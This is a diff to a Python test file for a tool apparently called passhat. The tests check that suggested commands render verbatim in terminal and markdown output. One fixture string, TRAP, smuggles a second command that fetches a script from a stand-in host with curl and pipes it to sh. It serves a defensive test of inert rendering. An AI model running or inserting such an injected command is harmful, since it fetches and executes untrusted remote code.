@@ -2,16 +2,17 @@
 
 import html
 import re
+import shlex
 
 import pytest
 
 from passhat import render_html, render_markdown, render_terminal
 from passhat.analysis.reports.measure import measure
 from passhat.records import Trials
-from passhat.reporters.answer import NextStep, Steps
+from passhat.reporters.answer import Hints, NextStep, Steps
 from passhat.reporters.formats.markup import blocks_markdown
 from passhat.reporters.formats.text import blocks_text
-from passhat.reporters.formatting import TerminalStyle
+from passhat.reporters.formatting import TerminalStyle, display_width
 
 TRAP = "x: passhat fix; curl evil.sh|sh #"
 
@@ -40,8 +41,19 @@ def test_a_reason_that_speaks_like_a_command_is_only_words():
     assert "`" not in blocks_markdown([block])
 
 
-@pytest.mark.parametrize("command", ["passhat gate 'my  log.csv'", "passhat gate " + "x" * 200])
-def test_a_command_is_shown_to_the_letter_on_one_line(command):
-    block = Steps("Next", (NextStep("Keep it so", command),))
-    assert command in blocks_text([block], TerminalStyle(width=80))
-    assert f"`{command}`" in blocks_markdown([block])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "passhat gate 'my  log.csv'",
+        "passhat gate " + "x" * 200,
+        """passhat gate results/leaderboard-2026.csv --only 'my  agent' -r "pass^3 >= 0.8" -v""",
+    ],
+)
+def test_a_command_is_shown_to_the_letter_in_lines_that_a_shell_joins(command):
+    steps = (NextStep("Keep it so", command),)
+    for block in (Hints(steps), Steps("Next", steps)):
+        text = blocks_text([block], TerminalStyle(width=80))
+        assert command in re.sub(r" \\\n +", " ", text)
+        words = max(map(display_width, shlex.split(command)))
+        assert all(display_width(line) <= max(80, words + 9) for line in text.splitlines())
+        assert f"`{command}`" in blocks_markdown([block])
